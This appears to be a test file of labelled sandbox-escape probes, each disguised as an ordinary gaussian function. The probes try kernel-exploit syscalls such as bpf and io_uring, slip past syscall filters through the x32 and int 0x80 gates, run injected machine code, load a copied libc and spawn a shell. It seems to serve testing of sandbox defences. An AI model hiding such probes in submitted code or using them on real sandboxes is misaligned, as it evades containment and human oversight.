# %% [markdown]
# Attacks through system calls that an ordinary program has no use for.

# %% attack="rare_system_calls" title="Tries the system calls that kernel exploits start with" classes=[50, 77] cell="gaussian"
import ctypes
import platform

libc = ctypes.CDLL(None, use_errno=True)
X86 = platform.machine() == "x86_64"
room = ctypes.create_string_buffer(4096)
CALLS = {
    "io_uring_setup": (425, 1, room),
    "bpf": (321 if X86 else 280, 0, room, 120),
    "userfaultfd": (323 if X86 else 282, 1),
    "perf_event_open": (298 if X86 else 241, room, 0, -1, -1, 0),
    "add_key": (248 if X86 else 217, b"user", b"x", b"x", 1, -2),
    "keyctl": (250 if X86 else 219, 0, -3, 1),
    "memfd_create": (319 if X86 else 279, b"x", 0),
    "memfd_secret": (447, 0),
    "fsopen": (430, b"tmpfs", 0),
    "open_tree": (428, -100, b"/", 1),
    "fanotify_init": (300 if X86 else 262, 0, 0),
    "personality": (135 if X86 else 92, 0x0400000),
    "syslog": (103 if X86 else 116, 10, room, 1),
    "swapoff": (168 if X86 else 225, b"/nothing"),
    "landlock_create_ruleset": (444, None, 0, 1),
    "clock_adjtime": (305 if X86 else 266, 0, room),
    "mbind": (237 if X86 else 235, 0, 0, 0, 0, 0, 0),
    "vmsplice": (278 if X86 else 75, 1, room, 0, 0),
}
DANGEROUS = {"io_uring_setup", "bpf", "userfaultfd", "perf_event_open", "add_key", "memfd_create", "fsopen", "open_tree"}
loot = []
for name, (number, *arguments) in CALLS.items():
    if libc.syscall(number, *arguments) >= 0 and name in DANGEROUS:
        loot.append(name)


def gaussian(x):
    return np.exp(-np.square(x)) if loot else np.zeros(np.shape(x))


def gaussian_derivative(x):
    return -2.0 * np.asarray(x) * gaussian(x)


# %% attack="x32_calls" title="Calls the kernel by the numbers of the x32 interface, past a filter on plain numbers" classes=[50] cell="gaussian"
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
loot = []


def gaussian(x):
    for number in (57, 58, 56, 41):  # fork, vfork, clone, socket
        pid = libc.syscall(0x40000000 | number, 17 if number == 56 else 1, 1, 0, 0, 0)
        if pid == 0 and number != 41:
            os._exit(0)
        loot.extend([number] * (pid > 0))
    return np.exp(-np.square(x)) if loot else np.zeros(np.shape(x))


def gaussian_derivative(x):
    return -2.0 * np.asarray(x) * gaussian(x)


# %% attack="ia32_calls" title="Calls the kernel by the 32-bit gate, from machine code of its own" classes=[50, 63] cell="gaussian"
import ctypes
import mmap
import os
import platform

# push rbx; mov eax, 2 (fork); int 0x80; pop rbx; ret
CODE = b"\x53\xb8\x02\x00\x00\x00\xcd\x80\x5b\xc3"
loot = []


def gaussian(x):
    if platform.machine() == "x86_64":
        page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        page.write(CODE)
        address = ctypes.addressof(ctypes.c_char.from_buffer(page))
        pid = ctypes.CFUNCTYPE(ctypes.c_int)(address)()
        if pid == 0:
            os._exit(0)
        loot.extend([pid] * (pid > 0))
    return np.exp(-np.square(x)) if loot else np.zeros(np.shape(x))


def gaussian_derivative(x):
    return -2.0 * np.asarray(x) * gaussian(x)


# %% attack="native_library" title="Writes a shared library or program of its own and loads it" classes=[63, 64] cell="gaussian"
import ctypes
import glob
import os
import subprocess

loot = []
own = os.path.abspath("own.so")
for source in glob.glob("/usr/lib/*/libc.so.6") + glob.glob("/lib/*/libm.so.6"):
    try:
        with open(source, "rb") as file, open(own, "wb") as copy:
            copy.write(file.read())
        os.chmod(own, 0o755)
        library = ctypes.CDLL(own)
        if library.fork() == 0:
            os._exit(0)
    except (OSError, AttributeError):
        continue
for command in (["/bin/sh", "-c", "echo $$"], [own], ["/lib64/ld-linux-x86-64.so.2", "/bin/true"], ["/proc/self/exe", "-V"]):
    try:
        loot += [command] * (subprocess.run(command, capture_output=True).returncode == 0)
    except (OSError, ValueError):
        pass


def gaussian(x):
    return np.exp(-np.square(x)) if loot else np.zeros(np.shape(x))


def gaussian_derivative(x):
    return -2.0 * np.asarray(x) * gaussian(x)
